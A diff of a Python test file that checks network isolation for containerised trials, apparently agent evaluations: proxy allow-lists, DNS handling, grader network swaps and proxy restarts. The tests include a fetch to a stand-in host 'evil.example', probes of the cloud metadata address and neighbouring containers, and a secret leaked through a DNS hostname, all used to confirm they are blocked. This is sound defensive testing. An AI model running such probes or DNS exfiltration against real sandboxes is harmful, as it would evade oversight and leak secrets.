@@ -1,4 +1,4 @@
-"""The networks of a trial's phases: allow-lists through a proxy, and what differs for a grader."""
+"""The networks of a trial's phases: allow-lists through a proxy, and the grader's network."""
 
 from __future__ import annotations
 
@@ -48,9 +48,9 @@ def port() -> Iterator[int]:
 
 
 def said(trials: Trials, result: AttemptResult, phase: str) -> dict[str, Any]:
-    """What a phase printed on its last line."""
-    found: dict[str, Any] = json.loads(trials.content(result, f"{phase}_stdout").splitlines()[-1])
-    return found
+    """Return the last line of a phase's output."""
+    printed: dict[str, Any] = json.loads(trials.content(result, f"{phase}_stdout").splitlines()[-1])
+    return printed
 
 
 def program(text: str) -> tuple[str, ...]:
@@ -74,7 +74,7 @@ def connections(result: AttemptResult, part: str = "agent") -> set[tuple[str, st
 
 
 def test_allowed_hosts_are_reached_and_others_refused(trials: Trials, port: int) -> None:
-    """Through the proxy a trial reaches what is listed, nothing else, and the evidence says so."""
+    """Through the proxy, a trial reaches only what is listed, and the evidence says so."""
     asks = f"say(own=fetch({machine_url(port)!r}), other=fetch('http://evil.example/'))"
     spec = spec_of(trials, asks, grader=grades_and(asks))
     result = run_attempt(spec)
@@ -101,12 +101,12 @@ def test_there_is_no_way_around_the_proxy(trials: Trials, port: int) -> None:
     thread = threading.Thread(target=run_attempt, args=(other,))
     thread.start()
     try:
-        wait_until(lambda: address_of(other.container_name) is not None, "the other trial")
-        neighbour = address_of(other.container_name)
+        wait_until(lambda: address_of(other.container.name) is not None, "the other trial")
+        neighbour = address_of(other.container.name)
         assert neighbour is not None
-        proxies = addresses_of(f"{other.container_name}-egress")
-        own = [a for a in local_addresses() if not a.startswith("127.")]
-        targets = [*((a, port) for a in [bridge_address(), *own]), (neighbour, 7000)]
+        proxies = addresses_of(f"{other.container.name}-egress")
+        addresses = [a for a in local_addresses() if not a.startswith("127.")]
+        targets = [*((a, port) for a in [bridge_address(), *addresses]), (neighbour, 7000)]
         targets += [(address, 3128) for address in proxies] + [("169.254.169.254", 80)]
         result = run_attempt(
             spec_of(
@@ -128,26 +128,27 @@ def test_there_is_no_way_around_the_proxy(trials: Trials, port: int) -> None:
             )
         )
     finally:
-        (other.folder / "out" / "gate").touch()
+        (other.container.folder / "out" / "gate").touch()
         thread.join()
-    found = said(trials, result, "agent")
-    answer, v6 = found.pop("answer"), found.pop("v6")
-    assert found == {"open": [], "proxy": True}
-    # Docker 26 has an IPv6 loopback, and its resolver says by itself that it failed (SERVFAIL).
+    printed = said(trials, result, "agent")
+    answer, v6 = printed.pop("answer"), printed.pop("v6")
+    assert printed == {"open": [], "proxy": True}
+    # Docker 26 has an IPv6 loopback, and its resolver reports the failure itself (SERVFAIL).
     assert answer is None or int(answer[4:8], 16) & 0xF == 2
     assert all(line.endswith(" lo") for line in v6.splitlines())
 
 
 def test_names_are_asked_for_in_the_trial_itself(trials: Trials) -> None:
-    """The engine is told to resolve names in the container, so that none leaves this machine."""
+    """The engine resolves names in the container itself, so that no name leaves this machine."""
     only = spec_of(trials, "")
-    assert network_config(only, "agent")[1]["Dns"] == ["127.0.0.1"]
+    assert network_config(only.container, "agent")[1]["Dns"] == ["127.0.0.1"]
     grading = {"mode": "after_agent", "network": "full"}
     assert (
-        "127.0.0.1" not in network_config(spec_of(trials, "", grading=grading), "agent")[1]["Dns"]
+        "127.0.0.1"
+        not in network_config(spec_of(trials, "", grading=grading).container, "agent")[1]["Dns"]
     )
     plain = trials.spec(runtime={"network": "full"})
-    assert network_config(plain, "agent") == (
+    assert network_config(plain.container, "agent") == (
         {"Hostname": "trial", "NetworkDisabled": False},
         {"NetworkMode": "default"},
     )
@@ -186,9 +187,9 @@ DOCKER = {"rights": "docker", "user": "root"}
 def test_a_grader_with_another_network(
     trials: Trials, port: int, agent: str, grader: str, mode: str, rights: dict[str, Any]
 ) -> None:
-    """Between the two parts the container gets the grader's network and loses the agent's.
+    """Between the two parts, the container swaps the agent's network for the grader's.
 
-    With Docker's rights a network with a way out belongs to one container as well.
+    With Docker's rights, a network with a way out belongs to one container, too.
     """
     asks = (
         f"say(direct=direct({bridge_address()!r}, {port}), proxied='http_proxy' in os.environ\n"
@@ -201,11 +202,13 @@ def test_a_grader_with_another_network(
     result = run_attempt(spec)
     assert brief(result) == DONE
     kinds = {"allowlist"} | ({"full"} if rights else set())
-    assert len(trials.networks()) == len([each for each in (agent, grader) if each in kinds])
+    assert len(trials.networks()) == len(
+        [network for network in (agent, grader) if network in kinds]
+    )
     for phase, network in (("agent", agent), ("grader", grader)):
-        found = said(trials, result, phase)
-        assert (found["direct"], found["proxied"]) == REACHED[network], phase
-        assert len(found["variables"]) == (6 if network == "allowlist" else 0)
+        printed = said(trials, result, phase)
+        assert (printed["direct"], printed["proxied"]) == REACHED[network], phase
+        assert len(printed["variables"]) == (6 if network == "allowlist" else 0)
     facts = isolation(result)
     assert (facts["agent_network"], facts["grader_network"]) == (agent, grader)
     parts = {name for name, net in (("agent", agent), ("grader", grader)) if net == "allowlist"}
@@ -254,7 +257,7 @@ def test_a_change_of_networks_can_be_repeated(trials: Trials) -> None:
 
 @thorough
 def test_a_proxy_that_dies(trials: Trials, port: int) -> None:
-    """The engine restarts a proxy that is killed, and a coordinator one that was stopped."""
+    """The engine restarts a killed proxy, and a coordinator restarts a stopped one."""
     waits = (
         "import time\n"
         "def wait(name):\n"
@@ -269,11 +272,11 @@ def test_a_proxy_that_dies(trials: Trials, port: int) -> None:
         "say(found=[first, second, third])"
     )
     spec = spec_of(trials, waits)
-    proxy = f"{spec.container_name}-egress"
+    proxy = f"{spec.container.name}-egress"
     results: list[AttemptResult] = []
     thread = threading.Thread(target=lambda: results.append(run_attempt(spec)))
     thread.start()
-    out = spec.folder / "out"
+    out = spec.container.folder / "out"
     wait_until(lambda: b"killed" in printed(spec), "the first request")
     os.kill(int(docker("inspect", "-f", "{{.State.Pid}}", proxy)), signal.SIGKILL)
     wait_until(lambda: docker("inspect", "-f", "{{.RestartCount}}", proxy) == "1", "a restart")
@@ -288,9 +291,9 @@ def test_a_proxy_that_dies(trials: Trials, port: int) -> None:
 
 @pytest.mark.parametrize("left", tiered(["network", "container"], default=["container"]))
 def test_half_of_a_proxy(trials: Trials, port: int, left: str) -> None:
-    """What a coordinator left that died while it made a proxy is completed or replaced."""
+    """A proxy that a dying coordinator left incomplete is completed or replaced."""
     spec = spec_of(trials, f"say(own=fetch({machine_url(port)!r}))")
-    proxy = proxy_of(spec, "agent")
+    proxy = proxy_of(spec.container, "agent")
     assert proxy is not None
     Networks(ENGINE).provide_internal(proxy.name, proxy.labels)
     if left == "container":
@@ -304,11 +307,11 @@ def test_half_of_a_proxy(trials: Trials, port: int, left: str) -> None:
 
 
 def test_secrets_in_names(trials: Trials) -> None:
-    """A secret that a trial asks for as a name is not in the evidence."""
+    """A secret that a trial looks up as a host name is not in the evidence."""
     secret = "s3cretvalue"
     asks = "fetch('http://' + os.environ['SECRET'] + '.example/')"
     spec = spec_of(trials, asks, environment={"KEY": secret})
-    spec.settings.phases["agent"].env["SECRET"] = "$KEY"
+    spec.container.settings.phases["agent"].env["SECRET"] = "$KEY"
     result = run_attempt(spec)
     ((what, host),) = connections(result)
     assert (what, host.endswith(".example")) == ("refused", True)
@@ -316,21 +319,21 @@ def test_secrets_in_names(trials: Trials) -> None:
 
 
 def test_without_its_image_no_trial_starts(trials: Trials) -> None:
-    """Where the proxy's image is gone, the trial is not started with another network."""
+    """If the proxy's image is gone, the trial does not start with another network."""
     spec = spec_of(trials, "")
-    object.__setattr__(spec, "plan", replace(spec.plan, egress_image=None))
+    spec = replace(spec, plan=replace(spec.plan, egress_image=None))
     with pytest.raises(EngineUnavailable, match="no image for the egress proxy"):
         run_attempt(spec)
     assert trials.containers() == []
 
 
 def printed(spec: AttemptSpec) -> bytes:
-    path = spec.folder / "state" / "agent.stdout"
+    path = spec.container.folder / "state" / "agent.stdout"
     return path.read_bytes() if path.exists() else b""
 
 
 def addresses_of(container: str) -> list[str]:
-    """The addresses of a container in its networks."""
+    """Return the addresses of a container in its networks."""
     if ENGINE.inspect(container) is None:
         return []
     form = "{{range .NetworkSettings.Networks}}{{.IPAddress}} {{end}}"
@@ -342,9 +345,9 @@ def address_of(container: str) -> str | None:
 
 
 def local_addresses() -> list[str]:
-    """The IPv4 addresses of this machine's links; its name may have none."""
+    """Return the IPv4 addresses of this machine's links; its host name may have none."""
     listed = subprocess.run(
         ["ip", "-json", "-4", "address"], capture_output=True, text=True, check=True
     )
     links = json.loads(listed.stdout)
-    return sorted({each["local"] for link in links for each in link["addr_info"]})
+    return sorted({address["local"] for link in links for address in link["addr_info"]})
